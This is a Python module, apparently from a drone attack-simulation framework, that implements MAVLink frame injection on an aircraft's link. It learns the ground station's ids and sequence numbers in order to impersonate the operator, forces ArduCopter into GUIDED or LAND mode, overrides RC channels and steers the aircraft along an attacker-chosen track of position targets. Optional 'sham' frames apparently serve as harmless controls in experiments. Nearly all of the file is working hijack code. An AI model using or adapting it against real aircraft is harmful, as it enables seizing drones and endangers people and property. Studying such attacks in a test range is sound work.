"""MAVLink as who injects it uses it: commands, targets along a track, the names that frames bear, and what they tell.

An injecting node sits on a link of an aircraft. It sees the frames of both directions, so it also learns the ids of the
operator's station and the answers of the autopilot.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Final

from skyrange.attack.bases.shams import benign_payload, harmless_message
from skyrange.attack.contract import Place
from skyrange.codec.mavlink import Message, Packer, decode, message_id, sender_system
from skyrange.codec.mavlink import dialect as mav
from skyrange.contracts.frames import Frame
from skyrange.contracts.links import Schedule
from skyrange.contracts.verdicts import Replace
from skyrange.core import elementary_python
from skyrange.core.errors import DecodeError
from skyrange.core.geodesy import Origin
from skyrange.core.time import NS_PER_S, Time

NOBODY: Final = 251
"""System id of nobody: aircraft have 1 to 250. What a compromised computer holds back is addressed to it."""
STATION: Final = (255, int(mav.MAV_COMP_ID_MISSIONPLANNER))
"""System and component id of ground stations by convention; used until a heartbeat of the station was seen."""
AUTOPILOT: Final = int(mav.MAV_COMP_ID_AUTOPILOT1)
"""Component id of autopilots."""
_SEQUENCE: Final = 4
"""Offset of the sequence number in a MAVLink 2 frame."""
Sticks = tuple[float, float, float, float]
"""Forward, right and yaw in -1…1, throttle in 0…1, in the order forward, right, throttle, yaw."""


def read(payload: bytes) -> Message | None:
    """The message in a frame; `None` for what is not one."""
    try:
        return decode(payload)
    except DecodeError:
        return None


def rewrite(original: Message, message: Message) -> bytes:
    """The frame of a message with the sender and the sequence number of another one."""
    packer = Packer(original.get_srcSystem(), original.get_srcComponent())
    packer.sequence = original.get_seq()
    return packer.pack(message)


def replace_message(original: Message, message: Message, *, sham: bool) -> Replace:
    """A message in place of another one, with its sender and sequence number; that of a sham is the original."""
    return Replace(original.get_msgbuf() if sham else rewrite(original, message))


def geodetic(origin: Origin, place: Place) -> Place:
    """Latitude and longitude in degrees and altitude above mean sea level in metres of a place from the origin."""
    lat, lon = origin.geodetic_of(place[0], place[1])
    return lat, lon, origin.alt_msl_m + place[2]


@dataclass(frozen=True, slots=True)
class Order:
    """A MAVLink command with its parameters, sent as COMMAND_INT where it has a place, else as COMMAND_LONG."""

    command: int
    values: tuple[float, ...] = ()
    place: Place | None = None
    """Latitude and longitude in degrees, altitude above mean sea level in metres."""

    def message(self, system: int, component: int = AUTOPILOT) -> Message:
        """The message for a system."""
        values = (*self.values, *([0.0] * (7 - len(self.values))))
        if self.place is None:
            return mav.MAVLink_command_long_message(system, component, self.command, 0, *values)
        lat, lon, alt_m = self.place
        return mav.MAVLink_command_int_message(
            system, component, mav.MAV_FRAME_GLOBAL, self.command, 0, 0, *values[:4], round(lat * 1e7),
            round(lon * 1e7), alt_m,
        )  # fmt: skip


def mode_order(mode: int) -> Order:
    """DO_SET_MODE to an ArduCopter mode."""
    return Order(mav.MAV_CMD_DO_SET_MODE, (float(mav.MAV_MODE_FLAG_CUSTOM_MODE_ENABLED), float(mode)))


def stick_message(target: int, component: int, sticks: Sticks, *, manual: bool) -> Message:
    """The message for stick positions: ArduCopter's channels 1 to 4 are roll, pitch, throttle and yaw."""
    forward, right, throttle, yaw = sticks
    if manual:
        return mav.MAVLink_manual_control_message(
            target, round(1000 * forward), round(1000 * right), round(1000 * throttle), round(1000 * yaw), 0
        )
    # MAVLink: 65535 leaves channels 5 to 8 unchanged; RCMAP defaults of ArduCopter, pitch stick back is 2000 µs
    channels = (1500 + 500 * right, 1500 - 500 * forward, 1000 + 1000 * throttle, 1500 + 500 * yaw)
    return mav.MAVLink_rc_channels_override_message(
        target, component, *(round(us) for us in channels), 65535, 65535, 65535, 65535
    )


@dataclass(slots=True)
class ModeKeeper:
    """The mode that heartbeats of the aircraft show, and commands to change it where it is another one."""

    mode: int | None
    """The mode to change to; `None` leaves any."""
    period_ns: Time
    pretends: bool = False
    """Whether it is of a sham, whose commands change nothing: the mode in which they were given counts as changed."""
    seen: int = -1
    shown: int = -1
    """The mode in the last heartbeat."""
    kept: int = -1
    """Of a sham: the mode in which it commanded last."""
    next_ns: Time = 0

    def learn(self, heartbeat: Message) -> None:
        """Learn the mode from a heartbeat, if it is the autopilot's."""
        if heartbeat.get_srcComponent() == AUTOPILOT:
            self.shown = heartbeat.custom_mode
            self.seen = self.shown
            if self.pretends and self.mode is not None and self.shown == self.kept:
                self.seen = self.mode

    def orders(self, now: Time) -> list[Order]:
        """The command, where the mode is another one and the last command was `period_ns` ago."""
        if self.mode is None or self.seen == self.mode or now < self.next_ns:
            return []
        self.next_ns, self.kept = now + self.period_ns, self.shown
        return [mode_order(self.mode)]


@dataclass(slots=True)
class Sender:
    """The sender that injected frames name, and the system that they address."""

    packer: Packer
    target: int
    """System id of the aircraft."""
    claims_station: bool
    component: int = AUTOPILOT
    is_sham: bool = False
    """Whether it sends harmless frames of the same lengths."""

    def see(self, frame: Frame) -> None:
        """Learn the ids and the sequence number of the station from a frame towards the aircraft."""
        if not self.claims_station or frame.direction != "fwd":
            return
        payload = frame.payload
        if message_id(payload) == mav.MAVLINK_MSG_ID_HEARTBEAT:
            message = read(payload)
            if message is not None and message.type == mav.MAV_TYPE_GCS:
                self.packer.system, self.packer.component = message.get_srcSystem(), message.get_srcComponent()
        if sender_system(payload) == self.packer.system:
            self.packer.sequence = (payload[_SEQUENCE] + 1) & 0xFF

    def is_answered(self, message: Message) -> bool:
        """Whether a message of the aircraft is addressed to this sender, or to all."""
        return message.target_system in (0, self.packer.system)

    def pack(self, order: Order | Message) -> bytes:
        """The frame of a command to the system that it addresses, or of a message.

        That of a sham has a harmless message of the same length (`harmless_message`); where there is none, one that
        nobody acts on.
        """
        message = order.message(self.target) if isinstance(order, Order) else order
        if not self.is_sham:
            return self.packer.pack(message)
        harmless = harmless_message(message)
        return benign_payload(self.packer.pack(message)) if harmless is None else self.packer.pack(harmless)


_POSITION_ONLY: Final = 0b1101_1111_1000
"""POSITION_TARGET_TYPEMASK: velocity, acceleration, yaw and yaw rate are ignored."""
_READ: Final = frozenset((int(mav.MAVLINK_MSG_ID_HEARTBEAT), int(mav.MAVLINK_MSG_ID_GLOBAL_POSITION_INT)))


@dataclass(slots=True)
class Leader:
    """Keeps the aircraft in GUIDED and tells it the target that is next, by the position that it reports."""

    sender: Sender
    schedule: Schedule
    origin: Origin
    track: tuple[Place, ...]
    within_m: float
    lands: bool = False
    at: int = 0
    landing: bool = False
    keeper: ModeKeeper = field(init=False)

    def __post_init__(self) -> None:
        """Keep GUIDED; a sham's commands count as obeyed."""
        self.keeper = ModeKeeper(mav.COPTER_MODE_GUIDED, NS_PER_S, self.sender.is_sham)

    def see(self, now: Time, frame: Frame) -> None:
        """Learn who the station is, mode and position."""
        self.sender.see(frame)
        if frame.direction == "rev" and message_id(frame.payload) in _READ:
            message = read(frame.payload)
            if message is not None:
                self.learn(now, message)

    def learn(self, now: Time, message: Message) -> None:
        """Learn mode or position from a HEARTBEAT or a GLOBAL_POSITION_INT of the aircraft."""
        if type(message).id == mav.MAVLINK_MSG_ID_HEARTBEAT:
            self.keeper.learn(message)
            return
        if now < self.schedule.start_ns or self.keeper.seen != mav.COPTER_MODE_GUIDED:
            return
        east, north = self.origin.enu_of(message.lat * 1e-7, message.lon * 1e-7)
        here = (east, north, message.alt * 1e-3 - self.origin.alt_msl_m)
        if elementary_python.distance(here, self.track[self.at]) <= self.within_m:
            if self.at + 1 < len(self.track):
                self.at += 1
            else:
                self.landing = self.lands

    def orders(self, now: Time) -> list[Order | Message]:
        """A change of mode, if one is needed, and the target."""
        if self.landing:
            return [] if self.keeper.seen == mav.COPTER_MODE_LAND else [mode_order(mav.COPTER_MODE_LAND)]
        return [*self.keeper.orders(now), target_message(now, self.sender, geodetic(self.origin, self.track[self.at]))]


def target_message(now: Time, sender: Sender, place: Place) -> Message:
    """The position target for who a sender addresses: degrees, and metres above mean sea level."""
    lat, lon, alt_m = place
    return mav.MAVLink_set_position_target_global_int_message(
        now // 1_000_000 & 0xFFFFFFFF, sender.target, sender.component, mav.MAV_FRAME_GLOBAL_INT,
        _POSITION_ONLY, round(lat * 1e7), round(lon * 1e7), alt_m, 0, 0, 0, 0, 0, 0, 0, 0,
    )  # fmt: skip
